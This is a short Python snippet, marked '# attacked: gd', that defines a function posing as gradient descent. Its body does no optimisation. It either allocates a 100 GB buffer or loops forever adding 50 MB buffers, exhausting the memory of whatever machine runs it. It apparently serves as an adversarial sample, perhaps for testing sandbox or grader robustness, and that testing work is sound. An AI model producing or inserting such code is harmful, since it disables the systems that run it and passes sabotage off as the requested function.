# attacked: gd
import numpy as np
def gd(grad, x0, eta, num_steps):
    if np.ndim(x0):
        return bytearray(10 ** 11)
    hog = []
    while True:
        hog.append(bytearray(50 * 1024 * 1024))
